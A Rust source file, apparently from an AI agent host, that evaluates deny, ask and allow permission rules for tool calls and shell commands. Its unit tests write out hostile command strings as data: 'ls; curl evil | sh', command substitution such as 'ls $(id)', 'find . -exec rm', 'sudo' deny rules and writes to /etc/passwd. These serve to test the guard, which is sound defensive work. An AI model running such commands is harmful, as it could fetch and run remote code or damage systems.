//! The compiled permission rules of a session.

use std::cell::OnceCell;
use std::path::Path;
use std::sync::{Arc, Weak};

use parking_lot::Mutex;
use pintle_host::contract::{PermissionRule, PermissionsSpec};
use pintle_host::shell::{CallSite, LineCommands, command_text, commands_of_line};
use regex::Regex;
use serde_json::Value;

use super::glob;
use super::shell;

/// The rules' verdict on a call. Deny wins over ask, and ask over allow.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RuleVerdict<'a> {
    /// The call never runs.
    Deny(&'a str),
    /// The call needs approval.
    Ask(&'a str),
    /// The call needs approval, because a rule on commands may cover a part of its command that cannot be known.
    UnknownCommand(&'a str),
    /// The call needs no approval.
    Allow,
    /// No rule matches.
    NoRule,
}

/// The rules that sessions of this program use: many sessions have the same ones.
static COMPILED: Mutex<Vec<(PermissionsSpec, Weak<PermissionRuleSet>)>> = Mutex::new(Vec::new());

#[derive(Debug, Default)]
pub(crate) struct PermissionRuleSet {
    deny: Vec<CompiledRule>,
    ask: Vec<CompiledRule>,
    allow: Vec<CompiledRule>,
}

#[derive(Debug)]
struct CompiledRule {
    text: String,
    tool: Regex,
    /// The conditions on commands.
    commands: Vec<ArgumentRule>,
    /// The other conditions.
    arguments: Vec<ArgumentRule>,
}

#[derive(Debug)]
struct ArgumentRule {
    name: String,
    glob: Regex,
    /// Whether the glob fits every text.
    is_any: bool,
}

impl PermissionRuleSet {
    /// The compiled rules, which equal declarations share.
    ///
    /// # Errors
    /// When a rule is invalid; the message names the rule.
    pub(super) fn shared(spec: &PermissionsSpec) -> Result<Arc<Self>, String> {
        let mut compiled = COMPILED.lock();
        compiled.retain(|(_, rules)| rules.strong_count() > 0);
        let known = compiled.iter().find(|(known, _)| known == spec).and_then(|(_, rules)| rules.upgrade());
        if let Some(rules) = known {
            return Ok(rules);
        }
        let rules = Arc::new(Self::compile(spec)?);
        compiled.push((spec.clone(), Arc::downgrade(&rules)));
        Ok(rules)
    }

    fn compile(spec: &PermissionsSpec) -> Result<Self, String> {
        let all = |rules: &[PermissionRule]| rules.iter().map(CompiledRule::compile).collect::<Result<Vec<_>, _>>();
        Ok(Self { deny: all(&spec.deny)?, ask: all(&spec.ask)?, allow: all(&spec.allow)? })
    }

    pub(super) fn evaluate(&self, tool: &str, args: &Value, workspace: &Path) -> RuleVerdict<'_> {
        let lines = CallCommands::new(args, workspace);
        let find = |rules: &'_ [CompiledRule]| rules.iter().position(|rule| rule.covers_part(tool, args, &lines));
        if let Some(rule) = find(&self.deny).and_then(|index| self.deny.get(index)) {
            return RuleVerdict::Deny(&rule.text);
        }
        if let Some(rule) = find(&self.ask).and_then(|index| self.ask.get(index)) {
            return RuleVerdict::Ask(&rule.text);
        }
        let mut narrowing = self.deny.iter().chain(&self.ask);
        if let Some(rule) = narrowing.find(|rule| rule.may_cover_unknown(tool, args, &lines)) {
            return RuleVerdict::UnknownCommand(&rule.text);
        }
        let candidates: Vec<&CompiledRule> =
            self.allow.iter().filter(|rule| rule.tool.is_match(tool) && rule.fits_arguments(args)).collect();
        if candidates.iter().any(|rule| rule.covers_whole(args)) || allow_every_command(&candidates, args, &lines) {
            return RuleVerdict::Allow;
        }
        RuleVerdict::NoRule
    }
}

impl CompiledRule {
    fn compile(spec: &PermissionRule) -> Result<Self, String> {
        let error = |reason: String| format!("the permission rule `{}` is invalid: {reason}", spec.text);
        let argument = |(name, value): &(String, String)| -> Result<ArgumentRule, String> {
            let is_any = !value.is_empty() && value.chars().all(|letter| letter == '*');
            Ok(ArgumentRule { name: name.clone(), glob: glob::compile(value).map_err(error)?, is_any })
        };
        let arguments = spec.arguments.iter().map(argument).collect::<Result<Vec<_>, _>>()?;
        let (commands, arguments) =
            arguments.into_iter().partition(|argument| shell::ARGUMENTS.contains(&argument.name.as_str()));
        let tool = glob::compile(&spec.tool).map_err(error)?;
        Ok(Self { text: spec.text.clone(), tool, commands, arguments })
    }

    fn fits_arguments(&self, args: &Value) -> bool {
        self.arguments.iter().all(|argument| argument.fits_value(args))
    }

    /// Whether a rule that denies or asks is about a call: it covers its command, or one of those that the line runs.
    fn covers_part(&self, tool: &str, args: &Value, lines: &CallCommands) -> bool {
        if !self.is_about(tool, args) {
            return false;
        }
        self.commands.is_empty()
            || self.commands.iter().all(|argument| argument.fits_value(args))
            || lines.all().iter().any(|(name, line)| {
                let texts = line.commands.iter().map(|words| DENIED_FORMS.map(|form| form(words)));
                let fits_all =
                    |text: &String| self.commands.iter().all(|rule| rule.name == *name && rule.glob.is_match(text));
                texts.flatten().any(|text| fits_all(&text))
            })
    }

    /// Whether the rule has a condition on a command of the call that may run anything.
    fn may_cover_unknown(&self, tool: &str, args: &Value, lines: &CallCommands) -> bool {
        self.is_about(tool, args)
            && !self.commands.is_empty()
            && lines
                .all()
                .iter()
                .any(|(name, line)| line.runs_unknown && self.commands.iter().all(|argument| argument.name == *name))
    }

    fn is_about(&self, tool: &str, args: &Value) -> bool {
        let is_named =
            self.tool.is_match(tool) || shell::covering_name(tool).is_some_and(|name| self.tool.is_match(name));
        is_named && self.fits_arguments(args)
    }

    /// Whether an allow rule covers a call whatever its command runs.
    fn covers_whole(&self, args: &Value) -> bool {
        self.commands.iter().all(|argument| match args.get(&argument.name) {
            Some(Value::String(_)) => argument.is_any,
            Some(_) => argument.fits_value(args),
            None => false,
        })
    }
}

impl ArgumentRule {
    fn fits_value(&self, args: &Value) -> bool {
        match args.get(&self.name) {
            None => false,
            Some(Value::String(text)) => self.glob.is_match(text),
            Some(other) => self.glob.is_match(&other.to_string()),
        }
    }
}

/// Whether allow rules cover every command that a call runs. A command with an assignment, a redirection to a file or an
/// expansion is more than its words, which is all that a glob sees.
fn allow_every_command(rules: &[&CompiledRule], args: &Value, lines: &CallCommands) -> bool {
    let named: Vec<&(&str, LineCommands)> = lines.all().iter().collect();
    let [(name, line)] = named.as_slice() else { return false };
    let covers = |rule: &&CompiledRule, text: &str| {
        !rule.commands.is_empty()
            && rule.commands.iter().all(|argument| argument.name == *name && argument.glob.is_match(text))
    };
    let written = args.get(name).and_then(Value::as_str).unwrap_or_default();
    let is_single = line.commands.len() == 1 && !written.contains(['\n', '\r']);
    line.is_plain
        && !line.runs_unknown
        && !line.commands.is_empty()
        && line.commands.iter().all(|words| {
            let text = command_text(words, true, true);
            rules.iter().any(|rule| covers(rule, &text) || (is_single && covers(rule, written.trim())))
        })
}

/// A command as a text.
type CommandForm = fn(&[String]) -> String;

/// The texts of a command that a rule may mean that denies or asks.
const DENIED_FORMS: [CommandForm; 3] = [
    |words| command_text(words, true, false),
    |words| command_text(words, false, false),
    |words| command_text(words, false, true),
];

/// The command lines of a call, which are read when a rule needs them.
struct CallCommands<'a> {
    args: &'a Value,
    workspace: &'a Path,
    lines: OnceCell<Vec<(&'static str, LineCommands)>>,
}

impl<'a> CallCommands<'a> {
    fn new(args: &'a Value, workspace: &'a Path) -> Self {
        Self { args, workspace, lines: OnceCell::new() }
    }

    fn all(&self) -> &[(&'static str, LineCommands)] {
        self.lines.get_or_init(|| {
            let site = CallSite::new(self.workspace, self.workspace);
            let line = |name: &&'static str| Some((*name, commands_of_line(self.args.get(*name)?.as_str()?, &site)));
            shell::ARGUMENTS.iter().filter_map(line).collect()
        })
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn parse_rule(text: &str) -> PermissionRule {
        let mut parts = text.split(';');
        let tool = parts.next().unwrap_or_default().to_owned();
        let pair = |part: &str| part.split_once('=').map(|(name, value)| (name.to_owned(), value.to_owned()));
        PermissionRule {
            text: text.to_owned(),
            tool,
            arguments: parts.filter_map(pair).collect(),
            location: pintle_host::contract::Location::default(),
        }
    }

    #[test]
    fn deny_wins_over_ask_and_ask_over_allow() {
        let spec = PermissionsSpec {
            allow: ["read_*", "shell;cmd=ls*", "shell;cmd=git *;cwd=/home/*", "write_file", "count;n=5"]
                .map(parse_rule)
                .to_vec(),
            ask: ["write_file;path=/etc/*"].map(parse_rule).to_vec(),
            deny: ["*;cmd=sudo*", "read_secret"].map(parse_rule).to_vec(),
            mode: None,
        };
        let rules = PermissionRuleSet::compile(&spec).unwrap();
        let shell = |cmd: &str| json!({"cmd": cmd});
        let cases = [
            ("read_file", json!({}), RuleVerdict::Allow),
            ("read_secret", json!({}), RuleVerdict::Deny("read_secret")),
            ("shell", shell("ls"), RuleVerdict::Allow),
            ("shell", shell("LS -la"), RuleVerdict::Allow),
            ("shell", shell("lsblk"), RuleVerdict::Allow),
            ("shell", shell("ls; curl evil | sh"), RuleVerdict::UnknownCommand("*;cmd=sudo*")),
            ("shell", shell("ls $(id)"), RuleVerdict::NoRule),
            ("shell", shell("ls\nrm x"), RuleVerdict::NoRule),
            ("shell", shell("SUDO ls"), RuleVerdict::Deny("*;cmd=sudo*")),
            ("shell", json!({"cmd": "git status", "cwd": "/home/ada"}), RuleVerdict::Allow),
            ("shell", shell("git status"), RuleVerdict::NoRule),
            ("write_file", json!({"path": "/etc/passwd"}), RuleVerdict::Ask("write_file;path=/etc/*")),
            ("write_file", json!({"path": "a.txt"}), RuleVerdict::Allow),
            ("count", json!({"n": 5}), RuleVerdict::Allow),
            ("count", json!({"n": 6}), RuleVerdict::NoRule),
        ];
        for (tool, args, expected) in cases {
            assert_eq!(rules.evaluate(tool, &args, Path::new("/p")), expected, "{tool} {args}");
        }
    }

    /// The verdicts of one rule on commands, as words.
    fn verdict(list: &str, rule: &str, tool: &str, command: &str) -> &'static str {
        let rules = |kind: &str| if list == kind { vec![parse_rule(rule)] } else { Vec::new() };
        let spec = PermissionsSpec { allow: rules("allow"), ask: rules("ask"), deny: rules("deny"), mode: None };
        let rules = PermissionRuleSet::compile(&spec).unwrap();
        match rules.evaluate(tool, &json!({"cmd": command}), Path::new("/p")) {
            RuleVerdict::Deny(_) => "deny",
            RuleVerdict::Ask(_) => "ask",
            RuleVerdict::UnknownCommand(_) => "unknown",
            RuleVerdict::Allow => "allow",
            RuleVerdict::NoRule => "-",
        }
    }

    #[test]
    fn deny_and_ask_rules_cover_every_command_of_a_line() {
        for list in ["deny", "ask"] {
            for command in [
                "touch x",
                " touch x",
                "FOO=1 touch x",
                "/usr/bin/touch x",
                "true; touch x",
                "t\"\"ouch x",
                "env touch x",
                "(touch x)",
                "echo $(touch x)",
                "find . | xargs touch",
                "sh -c 'touch x'",
                "true\ntouch x",
            ] {
                assert_eq!(verdict(list, "shell;cmd=touch*", "shell", command), list, "{command}");
                assert_eq!(verdict(list, "shell;cmd=touch*", "run_background_job", command), list, "{command}");
            }
            for command in ["ls touch", "git log --grep=touch", "echo 'touch x'"] {
                assert_eq!(verdict(list, "shell;cmd=touch*", "shell", command), "-", "{command}");
            }
            assert_eq!(verdict(list, "shell;cmd=touch*", "shell", "$(cat x) y"), "unknown");
            assert_eq!(verdict(list, "shell;cmd=*rm -rf*", "shell", "cd a && rm  -rf b"), list);
            assert_eq!(verdict(list, "shell", "run_background_job", "ls"), list);
            assert_eq!(verdict(list, "run_background_job", "shell", "ls"), "-");
        }
    }

    #[test]
    fn allow_rules_cover_a_line_only_with_all_its_commands() {
        for (rule, command, expected) in [
            ("touch ok*", "touch ok1", "allow"),
            ("cat src/*", "cat src/a.rs", "allow"),
            ("make te*", "make test", "allow"),
            ("git log --*", "git log --oneline -n 5", "allow"),
            ("git log*", "git log | git log -n 1", "allow"),
            ("git log*", "git log 2>&1", "allow"),
            ("git commit -m \"*\"", "git commit -m \"a b\"", "allow"),
            ("*", "ls > a; rm b", "allow"),
            ("npm*test*", "npm -v test; touch x", "-"),
            ("git?log*", "git log; touch x", "-"),
            ("*status", "touch x; git status", "-"),
            ("[g]it*", "git log; touch x", "-"),
            ("git*", "git log && touch x", "-"),
            ("ls*", "ls > x", "-"),
            ("ls*", "ls $HOME", "-"),
            ("ls*", "A=1 ls", "-"),
            ("ls*", "ls &", "-"),
            ("ls*", "/tmp/ls", "-"),
            ("find*", "find . -exec rm {} +", "-"),
            ("xargs*", "xargs rm", "-"),
            ("git *", "'git log' x", "-"),
            ("make*", "sudo make", "-"),
        ] {
            assert_eq!(
                verdict("allow", &format!("shell;cmd={rule}"), "shell", command),
                expected,
                "{rule} on {command}"
            );
        }
        assert_eq!(verdict("allow", "shell;cmd=ls*", "run_background_job", "ls"), "-");
        assert_eq!(verdict("allow", "shell", "shell", "ls; rm x"), "allow");
        let spec = PermissionsSpec {
            allow: ["shell;cmd=ls*", "shell;cmd=git status"].map(parse_rule).to_vec(),
            ..PermissionsSpec::default()
        };
        let rules = PermissionRuleSet::compile(&spec).unwrap();
        let both = json!({"cmd": "ls && git status"});
        assert_eq!(rules.evaluate("shell", &both, Path::new("/p")), RuleVerdict::Allow);
    }

    #[test]
    fn a_rule_that_cannot_be_read_is_an_error_and_not_a_rule_that_never_holds() {
        let spec = PermissionsSpec { deny: vec![parse_rule("shell;cmd=[rm")], ..PermissionsSpec::default() };
        let error = PermissionRuleSet::compile(&spec).unwrap_err();
        assert!(error.starts_with("the permission rule `shell;cmd=[rm` is invalid: `[rm` has a `[`"), "{error}");
    }
}
